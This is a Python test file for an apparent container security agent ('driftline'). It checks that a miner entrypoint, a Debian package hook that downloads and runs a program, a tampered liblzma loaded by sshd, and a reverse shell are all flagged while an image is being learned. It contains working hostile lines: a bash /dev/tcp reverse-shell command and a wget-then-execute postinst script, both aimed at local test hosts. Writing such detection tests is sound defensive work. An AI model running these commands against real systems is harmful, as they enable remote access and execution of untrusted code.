"""What is never learned in silence, on real containers: each attack is told the first time it is seen, while the image
is learned, and its behaviours wait for review in the baseline."""

from __future__ import annotations

import contextlib
import functools
import http.server
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from driftline.baseline.keeping.store import BaselineStore
from driftline.baseline.schema import Baseline, Entry, Standing
from driftline.nouns import Behaviour, ConnectBehaviour, ExecBehaviour, LoadBehaviour
from rig import containerd, images, network, packages
from rig.agent import Agent
from unit.inventory.roots import fill

pytestmark = pytest.mark.containers

ALWAYS_LEARNING = ("--learn-seconds", "600")
BRIEF = ("--learn-seconds", "4", "--learn-quiet-seconds", "1")
PACKAGES = ["dash", "coreutils", "bash", "dpkg", "tar", "wget", "openssh-server", "python3-minimal"]
SSHD = "/usr/bin/mkdir /run/sshd; exec /usr/sbin/sshd -D -e -f /srv/sshd.conf"  # containerd mounts an empty /run
DASH, BASH = "/usr/bin/dash", "/usr/bin/bash"


@pytest.fixture(scope="module")
def daemon() -> Iterator[containerd.Containerd]:
    with containerd.running() as running:
        yield running


@functools.cache
def base() -> Path:
    return packages.layer(PACKAGES)


def image_of(daemon: containerd.Containerd, name: str, directory: Path, added: Path | None, *argv: str) -> images.Image:
    """An image of the packages above, and what a Dockerfile put on top."""
    layers = [base(), added] if added is not None else [base()]
    built = images.build(f"localhost/{name}:1", layers, images.ImageOptions(entrypoint=argv), directory / f"{name}.tar")
    daemon.pull(built)
    built.tar.unlink()
    return built


def agent_of(daemon: containerd.Containerd, state: Path, *options: str) -> Agent:
    scope = ("--containerd-socket", str(daemon.socket), "--identify-seconds", "20")
    return Agent(state, *scope, *options)


def run(daemon: containerd.Containerd, image: images.Image, **options: Any) -> containerd.Task:
    name = f"{image.name.partition('/')[2].partition(':')[0]}-{os.getpid()}"
    return daemon.run(image.name, name, containerd.RunOptions(**options))


def learned(state: Path, image: images.Image) -> Baseline:
    found = BaselineStore(str(state)).load_one(image.digest)
    assert isinstance(found, Baseline)
    return found


def review(state: Path, image: images.Image) -> dict[Behaviour, Entry]:
    """What waits for review once the agent stopped."""
    entries = learned(state, image).entries
    return {behaviour: entry for behaviour, entry in entries.items() if entry.standing is Standing.NEEDS_REVIEW}


def checks_of(waiting: dict[Behaviour, Entry], path: str) -> set[str]:
    """Checks that the execs of ``path`` failed; of a script, the script's."""
    return {
        check
        for behaviour, entry in waiting.items()
        if isinstance(behaviour, ExecBehaviour) and path in (behaviour.path, behaviour.invoked)
        for check in entry.checks
    }


def test_a_miner_in_the_entrypoint_is_told_on_its_very_first_run(daemon: containerd.Containerd, tmp_path: Path) -> None:
    added = fill(tmp_path / "added", {"/usr/bin/xmrig": (base() / "usr/bin/stdbuf").read_bytes()})
    script = "#!/bin/sh\n/usr/bin/xmrig -o stratum+tcp://pool.example:3333\n/usr/bin/id -u\nexec /usr/bin/sleep 600\n"
    fill(added, {"/usr/bin/entrypoint": script})
    (added / "usr/bin/entrypoint").chmod(0o755)
    image = image_of(daemon, "trojaned", tmp_path, added, "/usr/bin/entrypoint")
    state = tmp_path / "state"
    with agent_of(daemon, state, *BRIEF) as agent:
        task = run(daemon, image)
        found = agent.wait_deviation("exec.suspicious", "/usr/bin/xmrig")
        assert found["severity"] == "critical"
        assert found["learning"] is True
        assert found["checks"] == ["NL-07", "NL-10"]
        agent.wait_line(f"detecting {image.name}", 90)
        daemon.exec(task, [DASH, "-c", "/usr/bin/xmrig -o stratum+tcp://pool.example:3333"], check=False)
        told = lambda: [d for d in agent.deviations if d["what"] == "/usr/bin/xmrig" and not d["learning"]]  # noqa: E731
        assert agent.wait(told)[0]["kind"] == "exec.suspicious"
    waiting = review(state, image)
    assert checks_of(waiting, "/usr/bin/xmrig") == {"NL-07", "NL-10"}
    allowed = {one.path for one in learned(state, image).entries if isinstance(one, ExecBehaviour)} - {
        one.path for one in waiting if isinstance(one, ExecBehaviour)
    }
    assert "/usr/bin/id" in allowed
    assert "/usr/bin/sleep" in allowed


@contextlib.contextmanager
def served(directory: Path, address: str) -> Iterator[int]:
    """Files over HTTP on ``address``; yields the port."""

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer((address, 0), functools.partial(Quiet, directory=str(directory)))
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def hooked_package(directory: Path, url: str) -> Path:
    """A real package whose postinst downloads a program and runs it."""
    root = directory / "evil"
    control = "Package: evil\nVersion: 1\nArchitecture: all\nMaintainer: rig <rig@localhost>\nDescription: none\n"
    hook = f"#!/bin/sh\nset -e\nwget -q -O /usr/lib/helper {url}\nchmod 755 /usr/lib/helper\n/usr/lib/helper evil\n"
    fill(root, {"/DEBIAN/control": control, "/DEBIAN/postinst": hook, "/usr/share/evil/data": "x"})
    (root / "DEBIAN/postinst").chmod(0o755)
    target = directory / "evil.deb"
    subprocess.run(["dpkg-deb", "--root-owner-group", "--build", root, target], capture_output=True, check=True)
    return target


def test_a_package_hook_that_downloads_and_runs_a_program(daemon: containerd.Containerd, tmp_path: Path) -> None:
    www = tmp_path / "www"
    www.mkdir()
    shutil.copy2(base() / "usr/bin/echo", www / "helper")
    state = tmp_path / "state"
    with network.veth() as net, served(www, net.host) as port:
        package = hooked_package(tmp_path, f"http://{net.host}:{port}/helper")
        added = fill(tmp_path / "added", {"/srv/evil.deb": package.read_bytes()})
        command = "/usr/bin/dpkg --force-depends,bad-path -i /srv/evil.deb; exec /usr/bin/sleep 600"
        image = image_of(daemon, "hooked", tmp_path, added, DASH, "-c", command)
        with agent_of(daemon, state, *ALWAYS_LEARNING) as agent:
            run(daemon, image, network=net.namespace)
            manager = agent.wait_deviation("exec.suspicious", "/usr/bin/dpkg")
            assert manager["checks"] == ["NL-08"]
            dropped = agent.wait_deviation("exec.drift", "/usr/lib/helper")
            assert (dropped["severity"], dropped["learning"]) == ("critical", True)
            assert dropped["argv"][1:] == ["evil"]
            assert any(ancestor["path"] == "/usr/bin/dpkg" for ancestor in dropped["ancestors"])
            assert agent.wait_deviation("file.write.code", "/usr/lib/helper")["checks"] == ["NL-16"]
    waiting = review(state, image)
    assert checks_of(waiting, "/usr/lib/helper") == {"NL-01"}
    downloads = [one for one in waiting if isinstance(one, ConnectBehaviour) and one.address == net.host]
    assert [waiting[one].checks for one in downloads] == [("NL-00",)]


def test_a_backdoored_library_loaded_by_sshd(daemon: containerd.Containerd, tmp_path: Path) -> None:
    (library,) = base().glob("usr/lib/*/liblzma.so.5.*")
    path = f"/{library.relative_to(base())}"
    configuration = "Port 2222\nListenAddress 127.0.0.1\nHostKey /srv/key\nPidFile none\nUsePAM no\n"
    added = fill(tmp_path / "added", {path: library.read_bytes() + b"backdoor", "/srv/sshd.conf": configuration})
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", added / "srv/key"], check=True)
    fill(added, {"/etc/passwd": "root:x:0:0::/root:/bin/sh\nsshd:x:100:65534::/run/sshd:/usr/sbin/nologin\n"})
    image = image_of(daemon, "sshd", tmp_path, added, DASH, "-c", SSHD)
    state = tmp_path / "state"
    with network.veth() as net, agent_of(daemon, state, *BRIEF) as agent:
        run(daemon, image, network=net.namespace)
        found = agent.wait_deviation("exec.modified", path, 60)
        assert (found["severity"], found["checks"], found["learning"]) == ("high", ["NL-01"], True)
        assert "differ from those dpkg recorded for package liblzma5 " in found["sentence"]
        assert found["exe"] == "/usr/sbin/sshd"
        agent.wait_line(f"detecting {image.name}", 90)
        assert [d["what"] for d in agent.deviations if d["kind"] == "exec.modified"] == [path]
    assert review(state, image)[LoadBehaviour(path)].checks == ("NL-00", "NL-01")  # sshd itself is NL-07


def test_scripts_count_as_code(daemon: containerd.Containerd, tmp_path: Path) -> None:
    volume = fill(tmp_path / "volume", {"/job.py": "print(1)\n", "/data.csv": "1\n", "/tool": "echo 1\n"})
    command = (
        "echo 'echo x' > /tmp/x; /bin/sh /tmp/x; /usr/bin/python3 /data/job.py; /usr/bin/dash -e /data/tool;"
        "echo 'echo y' > /srv/y.sh; cd /srv; /usr/bin/dash ./y.sh; /usr/bin/cat /data/data.csv;"
        "/usr/bin/dash /app/run.sh; exec /usr/bin/sleep 600"
    )
    added = fill(tmp_path / "added", {"/app/run.sh": "read line < /data/data.csv\n", "/srv/a": "", "/tmp/a": ""})
    image = image_of(daemon, "scripts", tmp_path, added, DASH, "-c", command)
    state = tmp_path / "state"
    with agent_of(daemon, state, *ALWAYS_LEARNING) as agent:
        run(daemon, image, volumes={"/data": volume})
        wanted = {
            "/tmp/x": ("NL-03", "high"),
            "/data/job.py": ("NL-01", "high"),
            "/data/tool": ("NL-01", "high"),
            "/srv/y.sh": ("NL-01", "critical"),
        }
        for script, (check, severity) in wanted.items():
            found = agent.wait_deviation("exec.drift", script)
            assert (found["checks"], found["severity"], found["learning"]) == ([check], severity, True)
        agent.wait(lambda: [d for d in agent.deviations if d["what"].startswith("/srv/y.sh") and d["sha256"]])
        assert len({d["id"] for d in agent.deviations if d["kind"] == "exec.drift"}) == len(wanted)
    waiting = review(state, image)
    assert {script: checks_of(waiting, script) for script in wanted} == {
        script: {check} for script, (check, _severity) in wanted.items()
    }
    assert not checks_of(waiting, "/app/run.sh")


def test_a_reverse_shell_while_the_image_is_learned(daemon: containerd.Containerd, tmp_path: Path) -> None:
    image = image_of(daemon, "victim", tmp_path, None, "/usr/bin/sleep", "600")
    state = tmp_path / "state"
    with network.veth() as net, socket.create_server((net.host, 0)) as listener:
        listener.settimeout(30)
        port = listener.getsockname()[1]
        with agent_of(daemon, state, *ALWAYS_LEARNING) as agent:
            task = run(daemon, image, network=net.namespace)
            shell = f"bash -i >& /dev/tcp/{net.host}/{port} 0>&1"
            caller = threading.Thread(target=daemon.exec, args=(task, [BASH, "-c", shell]), kwargs={"check": False})
            caller.start()
            try:
                attacker, _address = listener.accept()
                with attacker:
                    attacker.sendall(b"/usr/bin/id\nexit\n")
                    remote = agent.wait_deviation("exec.unknown", "/usr/bin/id")
            finally:
                caller.join(30)
            assert (remote["severity"], remote["checks"], remote["learning"]) == ("critical", ["NL-06"], True)
            arguments = agent.wait_deviation("exec.suspicious", BASH)
            assert "NL-10" in arguments["checks"]
    waiting = review(state, image)
    assert "NL-06" in checks_of(waiting, "/usr/bin/id")
    home = [one for one in waiting if isinstance(one, ConnectBehaviour) and one.address == net.host]
    assert [waiting[one].checks for one in home] == [("NL-00",)]
